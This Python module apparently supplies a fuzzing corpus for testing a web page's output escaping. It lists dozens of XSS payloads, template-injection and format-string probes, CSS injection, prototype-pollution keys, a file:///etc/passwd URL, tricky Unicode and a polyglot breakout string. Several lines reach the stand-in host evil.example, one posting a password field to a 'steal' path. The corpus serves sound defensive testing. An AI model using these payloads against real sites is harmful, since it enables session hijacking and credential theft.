"""What attackers write into a field, hoping that somebody's page runs it: a corpus of our own.

Every payload that could run calls `tripped(...)`, every one that could add an element marks it with `data-evil`, and
every one that could fetch something names the host `evil.example`; so a page shows by itself that it was broken into.
"""

from __future__ import annotations

TRIP = "tripped(1)"
_EVIL = f"<img data-evil src=x onerror={TRIP}>"

TAGS = (
    f"<script data-evil>{TRIP}</script>",
    _EVIL,
    f"<IMG data-evil SRC=x OnErRoR={TRIP}>",
    f"<img data-evil src=x\nonerror\n=\n{TRIP}>",
    f"<img/data-evil/src=x/onerror={TRIP}>",
    f"<<script data-evil>{TRIP}//<</script>",
    f"<svg data-evil onload={TRIP}>",
    f"<svg data-evil><script>{TRIP}</script></svg>",
    f"<svg data-evil><animate onbegin={TRIP} attributeName=x dur=1s>",
    f'<svg data-evil><a xlink:href="javascript:{TRIP}"><text y=20>press</text></a></svg>',
    f'<svg data-evil><use href="data:image/svg+xml,<svg id=x onload={TRIP}>#x"></use></svg>',
    f"<svg data-evil><foreignObject>{_EVIL}</foreignObject></svg>",
    f'<math data-evil><mtext><table><mglyph><style><!--</style><img title="--&gt;{_EVIL}">',
    f'<math data-evil href="javascript:{TRIP}">press</math>',
    f"<details data-evil open ontoggle={TRIP}>",
    f'<iframe data-evil srcdoc="<script>parent.{TRIP}</script>"></iframe>',
    f"<iframe data-evil src=javascript:parent.{TRIP}></iframe>",
    f"<object data-evil data=javascript:{TRIP}></object>",
    "<embed data-evil src=//evil.example/x.swf>",
    f"<form data-evil><button formaction=javascript:{TRIP} autofocus onfocus={TRIP}>press</button></form>",
    "<form data-evil action=//evil.example/steal><input name=password></form>",
    f"<input data-evil autofocus onfocus={TRIP}>",
    f"<video data-evil><source onerror={TRIP}></video>",
    f"<audio data-evil src=x onerror={TRIP}>",
    f"<marquee data-evil onstart={TRIP}>x</marquee>",
    f"<body data-evil onload={TRIP}>",
    f"<style data-evil>@import '//evil.example/x.css';</style><div onanimationstart={TRIP}>",
    "<link data-evil rel=stylesheet href=//evil.example/x.css>",
    "<base data-evil href=//evil.example/>",
    "<meta data-evil http-equiv=refresh content='0;url=http://evil.example/'>",
    f'<noscript data-evil><p title="</noscript>{_EVIL}">',
    f"<!--><{_EVIL[1:]}-->",
    f"<![CDATA[{_EVIL}]]>",
    f"<xmp data-evil>{_EVIL}</xmp>",
    f"<template data-evil shadowrootmode=open>{_EVIL}</template>",
    "<dialog data-evil open style='position:fixed;inset:0;z-index:99999'>Log in again: <input></dialog>",
    f"</textarea></title></style></script>{_EVIL}",
)

ATTRIBUTES = (
    f'">{_EVIL}',
    f"'>{_EVIL}",
    f"`>{_EVIL}",
    f'" autofocus onfocus={TRIP} data-evil="',
    f"' onmouseover={TRIP} data-evil='",
    f'x" style="position:fixed;inset:0" onclick="{TRIP}" data-evil="',
    f"&quot;&gt;&lt;img data-evil src=x onerror={TRIP}&gt;",
    f"&#60;img data-evil src=x onerror={TRIP}&#62;",
)

ADDRESSES = (
    f"javascript:{TRIP}",
    f"JaVaScRiPt:{TRIP}",
    f"java\tscript:{TRIP}",
    f"\x01javascript:{TRIP}",
    f"javascript://evil.example/%0a{TRIP}",
    f"data:text/html,<script data-evil>{TRIP}</script>",
    f"data:text/html;base64,PHNjcmlwdD50cmlwcGVkKDEpPC9zY3JpcHQ+#{TRIP}",
    f"vbscript:{TRIP}",
    f'https://evil.example/"onmouseover={TRIP}/data-evil="',
    f"https://evil.example/'><img data-evil src=x onerror={TRIP}>",
    f"https://evil.example/?next=javascript:{TRIP}",
    "https://bank.example@evil.example/login",
    "https://аррӏе.example/",
    "file:///etc/passwd",
    "//evil.example/protocol-relative",
)

TEMPLATES = (
    "{{constructor.constructor('tripped(1)')()}}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%25 print(7) %25} [[7*7]]",
    "${tripped(1)}",
    "<% tripped(1) %>",
    "{0.__class__.__init__.__globals__} %(secret)s %s%n {agent} {customer}",
    "`${tripped(1)}`",
)

STYLES = (
    "red;background:url(//evil.example/x)",
    f"expression({TRIP})",
    "</style><style data-evil>*{display:none!important}</style>",
    "red}*{display:none}",
    f"url(javascript:{TRIP})",
    "-moz-binding:url(//evil.example/x.xml#a)",
)

MARKDOWN = (
    f"[press](javascript:{TRIP})",
    f"![x](//evil.example/x.png)[y](data:text/html,<script data-evil>{TRIP}</script>)",
    f"<javascript:{TRIP}>",
    f"[a]: javascript:{TRIP} '{_EVIL}'",
    f"**{_EVIL}**",
    f"# {_EVIL}",
    f"| {_EVIL} | b |\n|---|---|\n| [x](javascript:{TRIP}) | {_EVIL} |",
    f"- {_EVIL}\n1. <script data-evil>{TRIP}</script>",
    f'[x](https://evil.example"onmouseover="{TRIP}" data-evil=")',
)

SCRIPTS = (
    f"</script><script data-evil>{TRIP}</script>",
    f"'-{TRIP}-'",
    f'";{TRIP};//',
    f"\\';{TRIP};//",
    f'"}}],"type":"welcome","x":"{_EVIL}',
    "\\u003cimg data-evil src=x onerror=tripped(1)\\u003e",
    "\u2028tripped(1)\u2029",
    f"*/{TRIP}/*",
    f"-->{_EVIL}<!--",
)

POLLUTION = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "valueOf",
    "then",
)

UNICODE = (
    "＜img data-evil src=x onerror=tripped(1)＞",
    "\u202egnp.exe\u202c \u202dabc",
    "\u2066\u2067\u2068\u202e never closed",
    "שלום \u200f<b data-evil>\u200e مرحبا",
    "\ufeff\u200b\u200c\u200d\u2060\u00ad",
    "Z̷̢̧̛͈̘̙̮͔̪̟̰̑̿̈́̆̊͒̓͋́̇A̵̡̢̛̤͙̠̗̯̜̍̈́̽͒̅̈́̓͆L̷̡̛̳͍̟̺̥̙̬̈́͑̓̃͐͌͌̚G̶̡̢̢̛̥̩̬͇̰̈́̍̀̊̓̔͝Ơ̸̡̨̲̺̤̙͓̺̝̐͋̽̏̍͘" * 6,
    "﷽" * 30,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
    "\U000e0001\U000e0074\U000e0061\U000e0067",
    "ㅤ",
    "\x1b[31mred\x1b[0m\x07\x08",
    "İıſK ﬀ ǆ",
)

LONG = (
    "W" * 180,
    "i" * 180,
    "a-" * 90,
    "https://evil.example/" + "x" * 160,
    "<" * 180,
    "word " * 36,
    "\n" * 60 + "below",
)

CORPUS = (
    *TAGS,
    *ATTRIBUTES,
    *ADDRESSES,
    *TEMPLATES,
    *STYLES,
    *MARKDOWN,
    *SCRIPTS,
    *POLLUTION,
    *UNICODE,
    *LONG,
)

EVERYWHERE = f"'\"`><svg data-evil onload={TRIP}><img data-evil src=x onerror={TRIP}>"
"""Breaks out of most contexts at once, for fields of which a quick test fills each once."""
